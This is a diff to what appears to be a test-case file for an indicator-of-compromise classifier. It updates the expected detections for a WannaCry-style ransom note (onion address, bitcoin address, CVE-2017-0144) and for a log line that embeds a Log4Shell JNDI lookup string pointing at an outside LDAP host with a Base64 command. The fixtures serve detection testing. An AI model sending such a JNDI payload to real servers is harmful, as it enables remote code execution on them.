@@ -20,8 +20,8 @@ export const ioc: ToolCases = {
         'Tor: gx7ekbenv2riucmf[.]onion\n' +
         'Send $300 worth of bitcoin to 13AM4VW2dhxYgXeQepoHkHSQuy6NgaEb94\n' +
         'uses CVE-2017-0144',
-      ids: [],
-      risk: 'unknown',
+      ids: ['ioc.hidden-service'],
+      risk: 'low',
     },
     {
       name: 'a look-up of Log4j in a line of a log',
@@ -30,7 +30,7 @@ export const ioc: ToolCases = {
         '203.0.113.9 - - [10/Dec/2021:13:55:36 +0000] "GET / HTTP/1.1" 200 45 "-" ' +
         '"$' +
         '{jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/aWQ=}"',
-      ids: [],
+      ids: ['ioc.documentation', 'ioc.live-link'],
       risk: 'unknown',
     },
   ],
@@ -53,7 +53,7 @@ export const ioc: ToolCases = {
       name: 'addresses inside of a network and of examples',
       source: 'RFC 1918; RFC 5737; RFC 2606',
       input: 'The router is 192.168.1.1, the server 10.0.0.5, the example 192.0.2.10 of www.example.com.',
-      ids: [],
+      ids: ['ioc.documentation', 'ioc.internal-address'],
       risk: 'none',
     },
   ],
